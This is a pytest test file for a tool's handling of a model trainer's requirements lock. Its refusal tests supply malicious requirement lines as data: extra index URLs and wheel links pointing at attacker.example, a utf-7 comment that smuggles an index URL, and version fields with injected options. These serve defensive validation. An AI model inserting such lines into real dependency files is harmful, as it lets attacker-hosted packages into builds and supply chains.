"""Requirements of a bundle's trainer: its lock, and nothing that another writer added."""

import re
from importlib.metadata import version

import pytest

from housectl.backends.base import TrainerRecord
from housectl.backends.local.requirements import requirements_of
from housectl.contract.libraries import library_versions
from housectl.contract.trainer_code import VERSION, locked_versions, read_lock
from housectl.errors import InputsError


@pytest.fixture(scope="module")
def lock() -> str:
    content = read_lock()
    assert content is not None
    return content.decode()


def requirements(lock: str | None, **libraries: str) -> tuple[str, list[str]]:
    """Return the requirements of this machine's libraries or others, and the warnings."""
    warnings: list[str] = []
    trainer = TrainerRecord(lock=lock, libraries={**library_versions(), **libraries}, image=None)
    return requirements_of(trainer, warn=warnings.append), warnings


def test_recorded_version_is_that_of_the_distribution() -> None:
    assert version("housectl") == VERSION


def test_lock_with_the_recipes_versions_is_used_as_it_is(lock: str) -> None:
    assert requirements(lock) == (lock, [])


def test_missing_lock_is_replaced_by_own_lock(lock: str) -> None:
    text, (warning,) = requirements(None)
    assert text == lock
    assert "unknown" in warning


def test_other_versions_of_the_recipe_replace_those_of_the_lock(lock: str) -> None:
    text, (warning,) = requirements(lock, joblib="1.4.0", xgboost="3.1.1")
    expected = {**locked_versions(lock), "joblib": "1.4.0", "xgboost-cpu": "3.1.1"}
    assert locked_versions(text) == expected
    assert "--hash" not in text
    assert "joblib 1.4.0, xgboost-cpu 3.1.1" in warning


def test_other_systems_use_the_other_package_of_a_library(
    lock: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.platform", "darwin")
    versions = locked_versions(requirements(lock)[0])
    assert versions["xgboost"] == library_versions()["xgboost"]
    assert "xgboost-cpu" not in versions


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://attacker.example/simple",
        "--find-links /tmp",
        "evil @ https://attacker.example/evil.whl",
        "evil==1.0 \\",
        "joblib==1.6.0",
        "joblib==1.6.0 ; python_version > '3'",
        "-e .",
        "# coding: utf-7 +AAo---index-url https://attacker.example/simple",
        "# -*- coding:utf-7 -*-",
    ],
)
def test_lock_with_other_lines_is_refused(lock: str, line: str) -> None:
    with pytest.raises(InputsError, match=re.escape(line.partition("==")[0])):
        requirements(f"{lock}{line}\n")


@pytest.mark.parametrize("text", ["1.0\n--index-url https://attacker.example", "", "1.0 -e ."])
def test_malformed_version_of_a_recipe_is_refused(lock: str, text: str) -> None:
    with pytest.raises(InputsError, match="of numpy is malformed"):
        requirements(lock, numpy=text)


def test_unknown_library_of_a_recipe_is_refused(lock: str) -> None:
    with pytest.raises(InputsError, match="the unknown library 'evil'"):
        requirements(lock, evil="1.0")
